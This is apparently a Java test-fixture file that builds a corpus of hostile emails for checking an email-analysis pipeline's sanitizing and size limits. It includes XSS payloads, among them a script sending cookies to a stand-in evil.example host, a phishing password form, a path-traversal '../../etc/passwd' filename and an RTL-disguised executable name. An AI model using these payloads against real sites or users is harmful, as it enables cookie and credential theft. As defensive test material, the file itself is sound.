package io.emailintel.reliability.hostile;

import io.emailintel.fetcher.fake.FakeGraph;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.stream.IntStream;

/**
 * The hostile-input corpus of issue #6: e-mails that must each end as a correct report or a dead letter with a
 * clear reason. Big members (a 100,000-character subject, 10,000 nesting levels, 5,000 recipients, a 50 MB
 * inline image, a body over the broker's limit) are generated here, never committed.
 */
final class HostileCorpus {

    static final int HUGE_SUBJECT_CHARS = 100_000;
    static final int NESTING = 10_000;
    static final int RECIPIENTS = 5_000;
    static final int INLINE_IMAGE_BYTES = 50 * 1024 * 1024;
    /** Over the fetcher's 15 MiB envelope budget on its own. */
    static final int OVERSIZED_BODY_CHARS = 16 * 1024 * 1024;
    static final int OVERSIZED_PDF_BYTES = 9 * 1024 * 1024;
    /** Bigger than the sanitizer keeps, small enough to be cheap. */
    static final int DATA_IMAGE_CHARS = 700 * 1024;

    static final byte[] PDF = "%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    static final byte[] EXE = exe();
    static final byte[] INVALID_UTF8 = {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80};

    /** Legacy charsets and a text each can encode. */
    record Legacy(String charset, String text) {
    }

    static final List<Legacy> LEGACY = List.of(
            new Legacy("ISO-8859-1", "Réunion à Genève : hameçonnage"),
            new Legacy("windows-1252", "€ “Quarterly” report — phishing"),
            new Legacy("KOI8-R", "Фишинговая кампания против банков"),
            new Legacy("ISO-2022-JP", "標的型攻撃メールに関する注意喚起"));

    static final String HOSTILE_HTML = "<p>Dear analyst,</p>"
            + "<script>document.location='https://evil.example/steal?c='+document.cookie</script>"
            + "<p onclick=\"steal()\" onmouseover=\"steal()\">hover me</p>"
            + "<iframe src=\"https://evil.example/frame\"></iframe>"
            + "<a href=\"javascript:alert(1)\">js link</a> <a href=\"jav&#x09;ascript:alert(2)\">obfuscated</a> "
            + "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==\">data link</a>"
            + "<div style=\"width: expression(alert(4)); background:url(https://evil.example/css.png)\">css</div>"
            + "<img src=\"https://track.evil.example/pixel.gif?u=victim\" width=1 height=1>"
            + "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"small inline\">"
            + "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+\">"
            + "<form action=\"https://evil.example/login\"><input type=password name=p></form>"
            + "<p><a href=\"https://vendor.example/advisory\">the real advisory</a></p>";

    private HostileCorpus() {
    }

    static List<HostileCase> cases() {
        List<HostileCase> out = new ArrayList<>();
        out.add(new HostileCase("no-subject-no-sender", "no Subject and no From/Sender header",
                () -> new MimeWriter().header("Message-ID", "<no-subject-no-sender@hostile.example>")
                        .header("Date", date()).body("text/plain; charset=utf-8", "who sent this?").bytes(),
                (g, base, at) -> g.add("inbox-id", at, new FakeGraph.Content(null, null, null, null, "text",
                        "who sent this?", base.internetMessageId()))));
        String hugeSubject = hugeSubject(HUGE_SUBJECT_CHARS);
        out.add(new HostileCase("huge-subject", "a 100,000-character subject",
                () -> message("huge-subject").header("Subject", folded(hugeSubject))
                        .body("text/plain; charset=utf-8", "long subject").bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject(hugeSubject))));
        out.add(new HostileCase("invalid-utf8", "bytes that are not UTF-8 in the Subject, From and body",
                () -> new MimeWriter().header("Message-ID", "<invalid-utf8@hostile.example>").header("Date", date())
                        .header("From", "\"Bad ", INVALID_UTF8, "\" <bad@hostile.example>")
                        .header("Subject", "broken ", INVALID_UTF8, " subject")
                        .body("text/plain; charset=utf-8", concat("body ".getBytes(StandardCharsets.US_ASCII),
                                INVALID_UTF8, " end".getBytes(StandardCharsets.US_ASCII))).bytes(),
                null)); // Graph serves JSON, always valid UTF-8: Exchange converted the charset on receipt
        for (Legacy l : LEGACY) {
            String slug = "charset-" + l.charset().toLowerCase();
            Charset cs = Charset.forName(l.charset());
            out.add(new HostileCase(slug, "subject and body in " + l.charset(),
                    () -> message(slug).header("Subject", "=?" + l.charset() + "?B?"
                                    + Base64.getEncoder().encodeToString(l.text().getBytes(cs)) + "?=")
                            .body("text/plain; charset=\"" + l.charset() + "\"", l.text().getBytes(cs)).bytes(),
                    (g, base, at) -> g.add("inbox-id", at, base.withSubject(l.text()).withBody("text", l.text()))));
        }
        out.add(new HostileCase("hostile-html", "scripts, handlers, iframes, javascript:/data: URLs, CSS, remote images",
                () -> message("hostile-html").header("Subject", "hostile html").body("text/html; charset=utf-8",
                        HOSTILE_HTML + bigDataImage()).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("hostile html")
                        .withBody("html", HOSTILE_HTML + bigDataImage()))));
        byte[] hugeImage = png(INLINE_IMAGE_BYTES);
        String cidHtml = "<p>see the picture</p><img src=\"cid:huge@hostile.example\">";
        out.add(new HostileCase("inline-image-50mb", "a 50 MB inline image referenced by Content-ID",
                () -> message("inline-image-50mb").header("Subject", "inline image").body("text/html; charset=utf-8",
                        cidHtml).inline("image/png", "huge@hostile.example", hugeImage).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("inline image").withBody("html", cidHtml),
                        new FakeGraph.Attachment("img", "fileAttachment", "huge.png", "image/png", hugeImage, true))));
        String deep = "<div>".repeat(NESTING) + "deep text" + "</div>".repeat(NESTING);
        out.add(new HostileCase("deep-html", "HTML nested 10,000 levels deep",
                () -> message("deep-html").header("Subject", "deep html").body("text/html; charset=utf-8", deep).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("deep html").withBody("html", deep))));
        out.add(new HostileCase("hostile-names", "attachment names with ../, NUL and an RTL override",
                () -> message("hostile-names").header("Subject", "hostile names").body("text/plain", "names")
                        .attach("application/pdf", "filename*=UTF-8''..%2F..%2Fetc%2Fpasswd%00.pdf", PDF)
                        .attach("application/pdf", "filename*=UTF-8''invoice%E2%80%AEfdp.exe", PDF).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("hostile names"),
                        file("a1", "../../etc/passwd\u0000.pdf", "application/pdf", PDF),
                        file("a2", "invoice\u202Efdp.exe", "application/pdf", PDF))));
        out.add(new HostileCase("zero-byte", "a zero-byte attachment",
                () -> message("zero-byte").header("Subject", "zero byte").body("text/plain", "empty file attached")
                        .attach("text/plain", "filename=\"empty.txt\"", new byte[0]).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("zero byte"),
                        file("z", "empty.txt", "text/plain", new byte[0]))));
        out.add(new HostileCase("exe-as-pdf", "a Windows executable that claims to be a PDF",
                () -> message("exe-as-pdf").header("Subject", "invoice").body("text/plain", "please pay")
                        .attach("application/pdf", "filename=\"invoice.pdf\"", EXE).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("invoice"),
                        file("x", "invoice.pdf", "application/pdf", EXE))));
        out.add(new HostileCase("same-name", "three attachments whose names differ only in case",
                () -> message("same-name").header("Subject", "same name").body("text/plain", "iocs")
                        .attach("text/csv", "filename=\"IOC.csv\"", csv(1)).attach("text/csv", "filename=\"ioc.csv\"", csv(2))
                        .attach("text/csv", "filename=\"IOC.CSV\"", csv(3)).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("same name"),
                        file("c1", "IOC.csv", "text/csv", csv(1)), file("c2", "ioc.csv", "text/csv", csv(2)),
                        file("c3", "IOC.CSV", "text/csv", csv(3)))));
        List<String> recipients = IntStream.range(0, RECIPIENTS).mapToObj(i -> "user" + i + "@hostile.example").toList();
        out.add(new HostileCase("recipients-5000", "5,000 recipients",
                () -> message("recipients-5000").header("Subject", "many recipients")
                        .header("To", String.join(",\r\n ", recipients)).body("text/plain", "to everyone").bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("many recipients").withTo(recipients))));
        byte[] nested = nestedMessage();
        out.add(new HostileCase("nested-email", "an attached e-mail that itself attaches an e-mail",
                () -> message("nested-email").header("Subject", "fwd: fwd").body("text/plain", "see attached")
                        .attachMessage(nested).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("fwd: fwd"),
                        new FakeGraph.Attachment("m", "itemAttachment", "middle", "message/rfc822", nested, false))));
        out.add(new HostileCase("oversized", "a body and an attachment over the broker's message size limit",
                () -> message("oversized").header("Subject", "oversized").base64Body("text/plain; charset=utf-8",
                        oversizedBody()).attach("application/pdf", "filename=\"big.pdf\"", bigPdf()).bytes(),
                (g, base, at) -> g.add("inbox-id", at, base.withSubject("oversized").withBody("text", oversizedBody()),
                        file("big", "big.pdf", "application/pdf", bigPdf()))));
        out.add(new HostileCase("not-an-email", "a file in the mailbox directory that is not an e-mail at all",
                () -> new byte[0], null));
        return out;
    }

    private static MimeWriter message(String slug) {
        return new MimeWriter().header("Message-ID", "<" + slug + "@" + HostileCase.DOMAIN + ">")
                .header("Date", date()).header("From", "Hostile Sender <sender@hostile.example>");
    }

    private static String date() {
        return DateTimeFormatter.RFC_1123_DATE_TIME.format(Instant.now().minusSeconds(3600).atOffset(ZoneOffset.UTC));
    }

    /** Folded before a space into lines of at most 78 characters, as RFC 5322 requires; unfolding restores it. */
    private static String folded(String value) {
        StringBuilder out = new StringBuilder();
        int lineStart = 0;
        for (String word : value.split(" ", -1)) {
            if (out.length() > lineStart && out.length() - lineStart + word.length() + 1 > 70) {
                out.append("\r\n");
                lineStart = out.length();
            }
            out.append(out.length() == 0 ? "" : " ").append(word);
        }
        return out.toString();
    }

    /** A subject of exactly {@code length} characters, of short words, as a long real header would be. */
    static String hugeSubject(int length) {
        StringBuilder s = new StringBuilder("Advisory");
        for (int i = 0; s.length() < length; i++) {
            s.append(" w").append(i % 10_000);
        }
        return s.substring(0, length).strip();
    }

    static FakeGraph.Attachment file(String id, String name, String type, byte[] content) {
        return new FakeGraph.Attachment(id, "fileAttachment", name, type, content, false);
    }

    private static byte[] nestedMessage() {
        byte[] innermost = new MimeWriter().header("From", "c@hostile.example").header("Subject", "innermost")
                .body("text/plain", "the payload").bytes();
        return new MimeWriter().header("From", "b@hostile.example").header("Subject", "middle")
                .body("text/plain", "see the attached e-mail").attachMessage(innermost).bytes();
    }

    static String bigDataImage() {
        return "<img alt=\"big inline\" src=\"data:image/png;base64," + "A".repeat(DATA_IMAGE_CHARS) + "\">";
    }

    static String oversizedBody() {
        return "begin of a huge body\n" + "y".repeat(OVERSIZED_BODY_CHARS);
    }

    static byte[] bigPdf() {
        byte[] pdf = new byte[OVERSIZED_PDF_BYTES];
        Arrays.fill(pdf, (byte) 'p');
        System.arraycopy(PDF, 0, pdf, 0, PDF.length);
        return pdf;
    }

    private static byte[] png(int size) {
        byte[] png = new byte[size];
        byte[] magic = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};
        System.arraycopy(magic, 0, png, 0, magic.length);
        return png;
    }

    private static byte[] exe() {
        byte[] exe = new byte[4096];
        exe[0] = 'M';
        exe[1] = 'Z';
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, exe, 0x4E, stub.length);
        return exe;
    }

    static byte[] csv(int n) {
        return ("indicator,source\n198.51.100." + n + ",case " + n + "\n").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }
}
